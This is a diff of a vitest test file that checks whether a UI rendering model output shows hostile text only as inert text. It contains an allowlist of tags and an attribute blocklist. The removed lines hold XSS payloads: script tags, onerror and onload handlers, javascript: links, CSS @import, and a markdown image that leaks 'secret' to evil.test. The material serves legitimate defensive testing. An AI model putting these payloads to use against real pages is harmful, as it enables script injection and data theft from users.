@@ -1,90 +1,78 @@
 /** Text from models is hostile. Wherever a page shows text, it is text and nothing else. */
 
 import { afterEach, expect, it } from "vitest";
-import { asking, candidate } from "./events.ts";
-import { drawn, Opened } from "./page.ts";
+import rows from "../../tests/hostile/texts.json" with { type: "json" };
+import { piecesOf } from "../src/text/invisible.ts";
+import { everywhere, over, type Row, textOf } from "./everywhere.ts";
+import { Opened } from "./page.ts";
 
-const TEXTS = [
-  "<script>window.hurt = 1</script>",
-  "<img src=x onerror='window.hurt = 1'>",
-  "<svg onload='window.hurt = 1'><use href='https://evil.test#a'/></svg>",
-  "<iframe srcdoc='<script>parent.hurt = 1</script>'></iframe>",
-  "<a href='javascript:window.hurt = 1'>click</a>",
-  "<style>@import url(https://evil.test)</style>",
-  "<form action=//evil.test><button>go</button></form>",
-  "<math><mtext><table><mglyph><style><img src=x onerror=hurt=1>",
-  "![a](https://evil.test/?q=secret) [x](javascript:alert(1)) <https://evil.test>",
-  "</span></div></section><h1>out</h1>",
-  "&lt;b&gt; &#60;script&#62; {{constructor.constructor('hurt=1')()}}",
-  "\u202Eevil\u202C \u0000\u0007 zero\u200Bwidth \uD800",
-  `${"x".repeat(20_000)}`,
-  `${"line\n".repeat(2_000)}`,
-];
 const ALLOWED = new Set(
-  "ARTICLE ASIDE BUTTON CANVAS CIRCLE DD DEFS DEL DETAILS DIV DL DT FIGCAPTION FIGURE FOOTER G H3 H4 HEADER I INPUT INS KBD LABEL LI LINE MARKER OL OPTGROUP OPTION P PATH PRE RECT SEARCH SECTION SELECT SPAN STRONG SUMMARY SVG TEXTAREA UL".split(
+  "ARTICLE ASIDE BLOCKQUOTE BUTTON CANVAS CIRCLE CODE DD DEFS DEL DETAILS DIALOG DIV DL DT EM FIELDSET FIGCAPTION FIGURE FOOTER G H3 H4 HEADER HR I INPUT INS KBD LABEL LEGEND LI LINE MARKER NAV OL OPTGROUP OPTION OUTPUT P PATH PRE PROGRESS RECT SEARCH SECTION SELECT SMALL SPAN STRONG SUMMARY SVG TABLE TBODY TD TEXTAREA TH THEAD TR UL".split(
     " ",
   ),
 );
+const SPOKEN = ["title", "aria-label", "alt", "placeholder"];
 
-/** Only our own elements are there, and none of them can load or run anything. */
+/** Only our own elements are there, none can load or run anything, and all is visible. */
 function harmless(el: HTMLElement): void {
-  const names = [...el.querySelectorAll("*")].map((one) => one.tagName.toUpperCase());
-  expect(names.filter((name) => !ALLOWED.has(name))).toEqual([]);
   for (const one of el.querySelectorAll("*")) {
-    for (const { name } of one.attributes) {
-      expect(name).not.toMatch(/^(on|href$|src$|srcset$|action$|srcdoc$)/);
+    expect(ALLOWED.has(one.tagName.toUpperCase()), one.tagName).toBe(true);
+    for (const { name, value } of one.attributes) {
+      expect(name).not.toMatch(/^(on|href$|xlink|src$|srcset$|action$|formaction$|srcdoc$|ping$)/);
+      if (name === "style") expect(value).not.toMatch(/url|@import|expression|position: *fixed/i);
+      if (SPOKEN.includes(name)) seen(value);
+    }
+    for (const node of one.childNodes) {
+      if (node.nodeType === Node.TEXT_NODE && !one.classList.contains("tgw-mark")) {
+        seen(node.nodeValue ?? "");
+      }
     }
   }
 }
 
-let page: Opened;
-afterEach(() => page.close());
-
-it.each(TEXTS)("shows %.30j as text in every place", async (text) => {
-  page = new Opened();
-  const bad = candidate(text, { broken: [text] });
-  const script = asking({ role: text, old: text, new: `${text} changed`, because: text })
-    .add("RunStarted", { name: text, review: text })
-    .add("NodeAdded", { node: "n2", role: text, op: text, value: text })
-    .add("CallStarted", {
-      call: "c2",
-      node: "a",
-      model: text,
-      engine: text,
-      system: text,
-      prompt: text,
-    })
-    .add("CallDelta", { call: "c2", text })
-    .add("CallDelta", { call: "c2", text, kind: "reasoning" })
-    .add("CallRetrying", { call: "c2", reason: text })
-    .add("Failed", { node: "l", message: text, hint: text, error: text })
-    .add("Notice", { message: text })
-    .add("CallStarted", {
-      call: "c3",
-      node: "q",
-      purpose: "proposal",
-      prompt: `${text}</A-abcdef>`,
-    })
-    .add("CallDelta", { call: "c3", text: `<A-abcdef>${text}` })
-    .add("Scored", { name: text })
-    .add("StepCommitted", { changes: [{ node: "a", old: text, new: `${text}!`, version: 2 }] })
-    .add("ProposalMade", { proposal: "p2", candidates: [bad, bad] })
-    .add("ProposalMade", { proposal: "p3", old: text, candidates: [candidate("all new")] })
-    .add("ReviewOpened", { review: "r2", proposals: ["p1", "p2", "p3"] })
-    .add("CriticismAsked", { ask: "k2", node: "a", instruction: text })
-    .add("CriticismGiven", { ask: "k2", text, by: text })
-    .add("CriticismAsked", { ask: "k3", node: "a", instruction: text });
-  await page.tell(script);
-  for (const card of page.el.querySelectorAll<HTMLElement>(".tgw-card-open")) {
-    card.click();
-    await drawn();
-    for (const one of page.el.querySelectorAll("details")) one.open = true;
-    await drawn();
-    harmless(page.el);
+/** No character hides in what is shown; what is long was cut where it was marked. */
+function seen(text: string): void {
+  const pieces = piecesOf(text.slice(0, 2_000));
+  if (pieces.length > 1 || (pieces[0] !== undefined && typeof pieces[0] !== "string")) {
+    expect(JSON.stringify(text.slice(0, 100))).toBe("visible");
   }
-  page.key("Escape");
-  page.key("e");
-  await drawn();
-  harmless(page.el);
-  expect((window as unknown as { hurt?: number }).hurt).toBeUndefined();
-});
+}
+
+const soon = () => new Promise((resolve) => setTimeout(resolve, 25));
+const texts = (rows as Row[]).map(textOf).map((text) => text.slice(0, 20_000));
+const BATCH = 14;
+const batches = Array.from({ length: Math.ceil(texts.length / BATCH) }, (_, i) =>
+  texts.slice(i * BATCH, (i + 1) * BATCH),
+);
+
+let page: Opened | undefined;
+afterEach(() => page?.close());
+
+it("there are texts enough", () => expect(new Set(texts).size).toBeGreaterThan(236));
+
+it.each(batches.map((batch, i) => [i, batch] as const))(
+  "batch %i is text in every place",
+  async (_, batch) => {
+    const one = new Opened();
+    page = one;
+    await one.tell(everywhere(batch));
+    harmless(one.el);
+    for (let i = 0; i < batch.length; i++) {
+      one.el.querySelector<HTMLElement>(`[data-node=n${i}] .tgw-card-open`)?.click();
+      await soon();
+      for (const detail of one.el.querySelectorAll("details")) detail.open = true;
+      const plain = one.el.querySelectorAll<HTMLElement>(".tgw-format[aria-pressed=false]");
+      for (const button of plain) button.click();
+      await soon();
+      harmless(one.find(".tgw-panel"));
+    }
+    one.key("Escape");
+    one.key("e");
+    await soon();
+    harmless(one.el);
+    one.close();
+    page = await new Opened().tell(over(batch));
+    harmless(page.el);
+    expect((window as unknown as { hurt?: number }).hurt).toBeUndefined();
+  },
+);
